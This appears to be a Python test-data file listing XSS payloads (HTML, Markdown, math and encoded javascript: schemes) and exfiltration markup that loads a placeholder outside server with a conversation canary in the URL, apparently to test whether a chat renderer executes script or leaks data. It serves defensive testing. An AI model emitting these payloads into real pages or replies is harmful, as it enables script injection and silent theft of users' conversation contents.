"""Texts that try to run in the browser of whoever reads them, and texts that try to carry something away from it.

`{out}` stands for a server elsewhere; `alert(1)` is what a test hears. `BROWSER` are those that are HTML.
"""

from itertools import product

JS = "alert(1)"
_SCHEMES = (
    "javascript:alert(1) JaVaScRiPt:alert(1) java&#115;cript:alert(1) &#x6A;avascript:alert(1) javascript&colon;alert(1) "
    "javascript&#58;alert(1) &#0000106avascript:alert(1) \x01javascript:alert(1) jav&#x09;ascript:alert(1) "
    "jav&NewLine;ascript:alert(1) javascript://%0aalert(1) vbscript:msgbox(1) data:text/html,<script>alert(1)</script> "
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== data:image/svg+xml,<svg/onload=alert(1)> "
    "blob:alert(1) feed:javascript:alert(1) view-source:javascript:alert(1) intent:alert(1)#Intent;end "
    "javascript:alert`1` livescript:alert(1) mocha:alert(1) jar:javascript:alert(1) about:blank#alert(1)"
).split()
# Ways in which Markdown makes a link or a picture of an address.
_FORMS = ("[a]({0})", "![a]({0})", "<{0}>", "[a][x]\n\n[x]: {0}")
BROWSER = [
    "<script>alert(1)</script>", "<SCRIPT SRC={out}/x.js></SCRIPT>", "<script>alert(1)", "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img src=x:x onerror=alert&lpar;1&rpar;>", "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>", "<image src=x onerror=alert(1)>", "<img srcset=',,,,,x' onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributename=x>", "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>", "<svg><foreignObject><iframe onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<iframe onload=alert(1)>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<object data={out}/x.swf>", "<embed src={out}/x>",
    "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<video onloadstart=alert(1) src=x>", "<audio src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>",
    "<input onfocus=alert(1) autofocus>", "<select onfocus=alert(1) autofocus>", "<textarea onfocus=alert(1) autofocus>",
    "<button onclick=alert(1) class=go>x</button>", "<form action=javascript:alert(1)><button class=go>x</button></form>",
    "<form><button formaction=javascript:alert(1) class=go>x</button></form>", "<a href=javascript:alert(1) class=go>x</a>",
    "<a href='java\nscript:alert(1)' class=go>x</a>", "<a onmouseover=alert(1) class=go>x</a>",
    "<div style='animation-name:x' onanimationstart=alert(1)>x</div>", "<style>@keyframes x{{}}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>", "<xss contenteditable onblur=alert(1) tabindex=1 autofocus>x</xss>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><img src=x onerror=alert(1)></template>",
    "<p id=x><a id=x name=y href=javascript:alert(1)>x</a></p>", "<form id=app><input name=innerHTML></form>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>", "<base href=javascript:alert(1)//>",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version='1.0'?><x onclick=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>", "<xmp><img src=x onerror=alert(1)></xmp>", "<isindex action=javascript:alert(1)>",
    "<keygen autofocus onfocus=alert(1)>", "<dialog open onclose=alert(1)><form method=dialog><button class=go>x</button></form></dialog>",
    "<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p class=go>x</button>",
]  # fmt: skip
_MARKDOWN = [
    '[a](x"onmouseover="alert(1))', '[a](<javascript:alert(1)> "x")', '![a](x"onerror="alert(1))',
    '![a"onerror="alert(1)](x)', '[a](# "\\"onmouseover=alert(1) \\"")', '[<img src=x onerror=alert(1)>](x)',
    '`<img src=x onerror=alert(1)>`', '```<img src=x onerror=alert(1)>\nx\n```', '```" onmouseover="alert(1)\nx\n```',
    '```mermaid\ngraph TD;A["<img src=x onerror=alert(1)>"]\n```', '```html\n<script>alert(1)</script>\n```',
    '$\\href{javascript:alert(1)}{x}$', '$$\\url{javascript:alert(1)}$$', '\\[\\htmlData{onclick=alert(1)}{x}\\]',
    '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
    '| <img src=x onerror=alert(1)> |\n| --- |\n| [a](javascript:alert(1)) |', '# <script>alert(1)</script>',
    '> <img src=x onerror=alert(1)>', '- [ ] <input onfocus=alert(1) autofocus>', '[1](javascript:alert(1))',
    '[【1】](#cite-1"onclick=alert(1))', '[a](#cite-<img src=x onerror=alert(1)>)',
    'www.x.example"onmouseover=alert(1)', 'http://x.example/"onmouseover=alert(1)/',
    '<http://x.example/"onclick=alert(1)>', '&lt;img src=x onerror=alert(1)&gt;', '[a](\\javascript:alert(1))',
    '<a href="http://x.example" onclick=alert(1)>x</a>', "{{constructor.constructor('alert(1)')()}}", '${alert(1)}',
]  # fmt: skip
XSS = [*BROWSER, *_MARKDOWN, *(form.format(scheme) for form, scheme in product(_FORMS, _SCHEMES))]

CANARY = "secret-of-the-conversation"
EXFILTRATION = [
    '![x]({out}/a?q={canary})', '![x][r]\n\n[r]: {out}/b?q={canary}', "<img src='{out}/c?q={canary}'>",
    "<img srcset='{out}/d?q={canary} 2x'>", "<picture><source srcset='{out}/e?q={canary}'><img></picture>",
    "<div style='background:url({out}/f?q={canary})'>x</div>",
    '<style>*{{background:url({out}/g?q={canary})}}</style>', "<style>@import '{out}/h?q={canary}'</style>",
    '<style>@font-face{{font-family:z;src:url({out}/i?q={canary})}}*{{font-family:z}}</style>',
    "<link rel=stylesheet href='{out}/j?q={canary}'>", "<link rel=prefetch href='{out}/k?q={canary}'>",
    "<link rel=icon href='{out}/l?q={canary}'>", "<iframe src='{out}/m?q={canary}'></iframe>",
    "<object data='{out}/n?q={canary}'></object>", "<embed src='{out}/o?q={canary}'>",
    "<video poster='{out}/p?q={canary}' src='{out}/q?q={canary}'></video>",
    "<audio src='{out}/r?q={canary}' autoplay></audio>", "<svg><image href='{out}/s?q={canary}'/></svg>",
    "<svg><use href='{out}/t?q={canary}#x'/></svg>", "<input type=image src='{out}/u?q={canary}'>",
    "<body background='{out}/v?q={canary}'>", "<table background='{out}/w?q={canary}'><tr><td>x</table>",
    "<track src='{out}/x?q={canary}'>", '[click]({out}/y?q={canary}) <{out}/z?q={canary}> {out}/z?q={canary}',
    "<base href='{out}/'>![x](a?q={canary})",
]  # fmt: skip
